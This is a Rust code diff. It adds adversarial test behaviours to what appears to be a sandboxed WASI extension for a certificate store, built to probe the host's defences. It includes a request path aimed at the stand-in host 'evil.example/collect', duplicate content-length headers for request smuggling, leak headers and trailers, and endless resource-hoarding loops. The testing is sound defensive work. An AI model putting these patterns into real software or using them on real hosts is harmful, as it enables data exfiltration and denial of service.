@@ -5,7 +5,9 @@ use crate::bindings::certstore::extension::host::{
 };
 use crate::bindings::wasi::clocks::monotonic_clock;
 use crate::bindings::wasi::http::outgoing_handler;
-use crate::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
+use crate::bindings::wasi::http::types::{
+    Fields, FutureIncomingResponse, Method, OutgoingBody, OutgoingRequest, Scheme,
+};
 
 pub(crate) fn attempt(name: &str, argument: &str, job: &Job, store: &Store) -> String {
     match name {
@@ -14,6 +16,15 @@ pub(crate) fn attempt(name: &str, argument: &str, job: &Job, store: &Store) -> S
         "delete" => request(&Method::Delete, argument, &[], None),
         "post" => request(&Method::Post, argument, &[], Some("leak")),
         "header" => request(&Method::Get, argument, &[("x-leak", "1")], None),
+        "large-body" => large_body(argument),
+        "trailers" => trailers(argument),
+        "unfinished-body" => unfinished_body(argument),
+        "not-waiting" => not_waiting(argument),
+        "naps" => naps(argument.parse().unwrap_or(0)),
+        "large-aliases" => large_aliases(),
+        "absolute-path" => absolute_path(argument),
+        "two-lengths" => two_lengths(argument),
+        "hoard" => hoard(),
         "spin" => spin(),
         "allocate" => allocate(),
         "panic" => panic!("on purpose"),
@@ -83,6 +94,128 @@ fn request(method: &Method, url: &str, headers: &[(&str, &str)], body: Option<&s
         Some(Ok(Err(error))) => format!("{error:?}"),
         _ => "no answer".to_owned(),
     }
+}
+
+/// A request of a URL, not yet sent.
+fn outgoing(method: &Method, url: &str, fields: Fields) -> OutgoingRequest {
+    let (authority, path) = url
+        .trim_start_matches("https://")
+        .split_once('/')
+        .unwrap_or((url, ""));
+    let outgoing = OutgoingRequest::new(fields);
+    let _ = outgoing.set_method(method);
+    let _ = outgoing.set_scheme(Some(&Scheme::Https));
+    let _ = outgoing.set_authority(Some(authority));
+    let _ = outgoing.set_path_with_query(Some(&format!("/{path}")));
+    outgoing
+}
+
+fn answered(answer: &FutureIncomingResponse) -> String {
+    answer.subscribe().block();
+    format!(
+        "{:?}",
+        answer
+            .get()
+            .map(|got| got.map(|got| got.map(|r| r.status())))
+    )
+}
+
+fn large_body(url: &str) -> String {
+    let outgoing = outgoing(&Method::Post, url, Fields::new());
+    let body = outgoing.body().expect("the first call gives the body");
+    let Ok(answer) = outgoing_handler::handle(outgoing, None) else {
+        return "refused".to_owned();
+    };
+    let stream = body.write().expect("the first call gives the stream");
+    for _ in 0..100 {
+        if stream.blocking_write_and_flush(&[b'x'; 4096]).is_err() {
+            break;
+        }
+    }
+    drop(stream);
+    let _ = OutgoingBody::finish(body, None);
+    answered(&answer)
+}
+
+fn trailers(url: &str) -> String {
+    let outgoing = outgoing(&Method::Get, url, Fields::new());
+    let body = outgoing.body().expect("the first call gives the body");
+    let Ok(answer) = outgoing_handler::handle(outgoing, None) else {
+        return "refused".to_owned();
+    };
+    let trailers = Fields::new();
+    let _ = trailers.append("x-leak", b"1");
+    let _ = OutgoingBody::finish(body, Some(trailers));
+    answered(&answer)
+}
+
+fn unfinished_body(url: &str) -> String {
+    let outgoing = outgoing(&Method::Post, url, Fields::new());
+    let body = outgoing.body().expect("the first call gives the body");
+    let Ok(answer) = outgoing_handler::handle(outgoing, None) else {
+        return "refused".to_owned();
+    };
+    drop(body);
+    answered(&answer)
+}
+
+fn not_waiting(url: &str) -> String {
+    let outgoing = outgoing(&Method::Get, url, Fields::new());
+    drop(outgoing_handler::handle(outgoing, None));
+    submit("a")
+}
+
+fn absolute_path(url: &str) -> String {
+    let outgoing = outgoing(&Method::Get, url, Fields::new());
+    if outgoing
+        .set_path_with_query(Some("http://evil.example/collect"))
+        .is_err()
+    {
+        return "refused".to_owned();
+    }
+    match outgoing_handler::handle(outgoing, None) {
+        Ok(answer) => answered(&answer),
+        Err(error) => format!("{error:?}"),
+    }
+}
+
+fn two_lengths(url: &str) -> String {
+    let fields = Fields::new();
+    let first = fields.append("content-length", b"3");
+    let second = fields.append("content-length", b"30");
+    if first.is_err() || second.is_err() {
+        return "refused".to_owned();
+    }
+    match outgoing_handler::handle(outgoing(&Method::Post, url, fields), None) {
+        Ok(answer) => answered(&answer),
+        Err(error) => format!("{error:?}"),
+    }
+}
+
+/// Wakes up often and does nothing.
+fn naps(count: u32) -> String {
+    for _ in 0..count {
+        monotonic_clock::subscribe_duration(11_000_000).block();
+    }
+    String::new()
+}
+
+/// Resources until there are no more.
+fn hoard() -> String {
+    let mut held = Vec::new();
+    loop {
+        held.push(Fields::new());
+        std::hint::black_box(&held);
+    }
+}
+
+fn large_aliases() -> String {
+    let refused = submit(&"a".repeat(1 << 20));
+    // After one refusal, nothing is looked at any more.
+    for number in 0..1_000 {
+        let _ = submit(&format!("{number}"));
+    }
+    refused
 }
 
 fn spin() -> String {
